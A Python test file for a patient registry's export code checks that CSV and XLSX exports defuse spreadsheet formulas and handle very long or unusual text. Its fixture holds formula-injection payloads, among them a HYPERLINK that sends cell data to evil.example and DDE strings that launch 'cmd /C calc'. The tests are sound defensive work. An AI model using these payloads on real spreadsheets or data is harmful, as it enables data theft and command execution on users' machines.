"""Exports never hand a spreadsheet something to execute, and never fail on text: every cell
starting with = + - @ (or tab / carriage return) is made inert in CSV and XLSX, identified or
not; control characters and very long text are written, not crashed on."""

from __future__ import annotations

import io

import openpyxl
import pytest

from registry import services
from registry.models import Baseline, Patient
from tests import builders
from tests.exchange.helpers import open_zip, rows, run_export

HOSTILE = {
    "notes": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "mrn": "@SUM(1+1)*cmd|' /C calc'!A0",
    "mets_other_specify": "+1+2",
    "term_other_specify": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile_patient(coordinator_a):
    patient = builders.register_patient(coordinator_a, notes=HOSTILE["notes"], mrn=HOSTILE["mrn"])
    save = services.crf_record_save
    save(
        user=coordinator_a,
        patient=patient,
        section="baseline",
        data=builders.baseline(mets_other=True, mets_other_specify=HOSTILE["mets_other_specify"]),
    )
    save(user=coordinator_a, patient=patient, section="first_line", data=builders.first_line())
    save(user=coordinator_a, patient=patient, section="second_line", data=builders.second_line())
    save(
        user=coordinator_a,
        patient=patient,
        section="adverse_events",
        data=builders.adverse_event(
            term="Other, specify", term_other_specify=HOSTILE["term_other_specify"]
        ),
    )
    return patient


def _all_csv_cells(zf) -> list[str]:
    cells = []
    for name in zf.namelist():
        if name.endswith(".csv"):
            cells += [value for row in rows(zf, name) for value in row.values()]
    return cells


def _xlsx_cells(zf) -> list:
    book = openpyxl.load_workbook(io.BytesIO(zf.read("xlsx/dataset.xlsx")))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_identified_export_makes_every_formula_inert(hostile_patient, export_admin):
    job = run_export(
        export_admin, identified=True, reason="audit", locked_only=False, formats=["xlsx"]
    )
    assert job.status == "done", job.error
    zf = open_zip(job)
    csv_cells = _all_csv_cells(zf)
    for value in HOSTILE.values():
        assert "'" + value in csv_cells, value
        assert value not in csv_cells
    assert not [v for v in csv_cells if _executable(v)]
    cells = _xlsx_cells(zf)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + HOSTILE["notes"] in texts


def test_numbers_are_not_touched(hostile_patient, export_admin):
    zf = open_zip(run_export(export_admin, identified=True, reason="audit", locked_only=False))
    analysis = rows(zf, "analysis/patients.csv")
    # Negative numbers stay numbers (days before the 2L start, for instance).
    numbers = [v for row in analysis for v in row.values() if v[:1] == "-"]
    assert all(_number(v) for v in numbers)


def test_deidentified_export_is_neutralised_too(hostile_patient, pi_user):
    zf = open_zip(run_export(pi_user, locked_only=False, formats=["xlsx"]))
    assert not [v for v in _all_csv_cells(zf) if _executable(v)]
    assert not [c for c in _xlsx_cells(zf) if c.data_type == "f"]


def test_long_and_unusual_text_never_fails_an_export(hostile_patient, export_admin):
    # Written before today's validation, or by a bulk load: control characters, 1 MB of
    # text, right-to-left and astral characters.
    long_note = "\u202e\U0001f9ea " + "x" * 1_000_000 + " \x01\x0b\x1f end"
    Patient.objects.filter(pk=hostile_patient.pk).update(notes=long_note)
    Baseline.objects.filter(patient=hostile_patient).update(mets_other_specify="a\x07b\x1bc")
    job = run_export(
        export_admin,
        identified=True,
        reason="audit",
        locked_only=False,
        formats=["xlsx", "sav", "redcap"],
    )
    assert job.status == "done", job.error
    zf = open_zip(job)
    (registration,) = rows(zf, "tables/registration.csv")
    assert registration["notes"] == long_note  # the CSV keeps every character
    notes = [c.value for c in _xlsx_cells(zf) if isinstance(c.value, str) and "xxxx" in c.value]
    assert len(notes) == 1
    assert len(notes[0]) == 32_767
    assert notes[0].endswith("characters in all; the CSV has the full text]")


def _executable(text: str) -> bool:
    """What a spreadsheet would run: a leading = + - @ that is not part of a number."""
    return text[:1] in ("=", "+", "-", "@") and not _number(text)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
